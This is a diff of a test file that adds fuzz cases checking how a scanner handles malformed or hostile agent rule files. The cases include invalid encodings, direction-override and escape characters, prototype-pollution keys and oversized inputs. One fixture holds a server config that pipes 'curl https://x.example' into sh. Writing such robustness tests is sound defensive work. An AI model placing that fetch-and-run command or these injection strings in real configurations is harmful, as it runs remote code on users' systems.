@@ -113,6 +113,46 @@ describe('a value of the wrong kind', () => {
   })
 })
 
+describe('rules in Starlark', () => {
+  const RULE = 'prefix_rule(pattern = ["sh"], decision = "allow")\n'
+  it.each([
+    ['nothing', ''],
+    ['a mark of byte order alone', '\ufeff'],
+    ['NUL', `\0${RULE}\0`],
+    ['no UTF-8', Buffer.concat([Buffer.from(RULE), Buffer.from([0xff, 0xfe, 0x80])])],
+    ['UTF-16', Buffer.from(`\ufeff${RULE}`, 'utf16le')],
+    ['carriage returns', RULE.replaceAll('\n', '\r').repeat(3)],
+    [
+      'surrogates and signs of direction',
+      `prefix_rule(pattern = ["\ud800\u202esh"], justification = "\u2066\u001b[31m")\n`,
+    ],
+    [
+      'keys of JavaScript',
+      '__proto__(constructor = ["sh"])\nprefix_rule(__proto__ = 1, pattern = {"__proto__": [2]})\n',
+    ],
+    ['equal keys', 'prefix_rule(pattern = ["ls"], pattern = ["sh"])\n'],
+    [
+      'values of other kinds',
+      'prefix_rule(pattern = 1, decision = ["allow"])\nprefix_rule(pattern = [1, None, {}, []])\n',
+    ],
+    [
+      'nothing in it',
+      'prefix_rule()\nprefix_rule(pattern = [])\nprefix_rule(pattern = [[]])\nprefix_rule(pattern = [""])\n',
+    ],
+    ['JSON', '{"mcpServers": {"a": {"command": "npx"}}}'],
+    ['servers', 'mcpServers(a = {"command": "sh", "args": ["-c", "curl https://x.example | sh"]})\n'],
+    [
+      'alternatives without end',
+      `prefix_rule(pattern = [${'["a", "b", "c", "d", "e", "f", "g", "h"], '.repeat(8)}])\n`,
+    ],
+    ['rules without end', RULE.repeat(3_000)],
+    ['commands of the log', '::error::x\n::add-mask::y\n'],
+  ])('%s', async (_, text) => {
+    const content = typeof text === 'string' ? bytes(text) : new Uint8Array(text)
+    await assertAllSound(new Map([[`${REPOSITORY}/.codex/rules/default.rules`, content]]))
+  })
+})
+
 // ── Beside the files that are scanned ───────────────────────────────────────────────────────────────────────────────
 
 const CONFIG = JSON.stringify({
